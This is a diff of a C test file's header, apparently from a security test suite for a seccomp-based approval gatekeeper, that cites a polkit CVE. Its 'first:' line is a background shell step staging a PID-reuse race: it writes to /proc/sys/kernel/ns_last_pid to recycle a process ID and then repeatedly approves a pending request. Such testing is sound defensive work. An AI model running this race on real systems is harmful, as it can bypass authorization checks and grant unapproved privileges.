@@ -3,7 +3,8 @@
 // see: seccomp_unotify(2), SECCOMP_IOCTL_NOTIF_ID_VALID; CVE-2019-6133 (polkit)
 // goal: change
 // needs: test -e /proc/sys/kernel/ns_last_pid
-// first: . "$KIT/attacks/person.sh"; (id=; while [ $SECONDS -lt 12 ]; do id=$(holds_of "$ASKED" | head -1); test -n "$id" && break; sleep 0.05; done; test -n "$id" || exit; test -e "$WORK/wanted" && exit; touch "$WORK/shown"; for turn in $(seq 60); do test -e "$WORK/wanted" && break; sleep 0.05; done; read -r wanted <"$WORK/wanted" || exit; for ((turn = 0; turn < 100000; turn++)); do test -e "$WORK/again" && break; echo $((wanted - 1)) >/proc/sys/kernel/ns_last_pid; done; for turn in $(seq 10); do gatekeeper approve "$id"; done) >/dev/null 2>&1 &
+// first: . "$KIT/attacks/person.sh"; (until id=$(holds_of "$ASKED" | head -1); test -n "$id"; do sleep 0.05; done; test -e "$WORK/wanted" && exit; touch "$WORK/shown"; until test -e "$WORK/wanted"; do sleep 0.05; done; read -r wanted <"$WORK/wanted" || exit; for ((turn = 0; turn < 100000; turn++)); do test -e "$WORK/again" && break; echo $((wanted - 1)) >/proc/sys/kernel/ns_last_pid; done; for turn in $(seq 10); do gatekeeper approve "$id"; done) >/dev/null 2>&1 &
+// alone: the number is the machine's
 // note: A helper outside sets which number comes next, for waiting until the numbers are through takes too long
 #include "../kit.h"
 
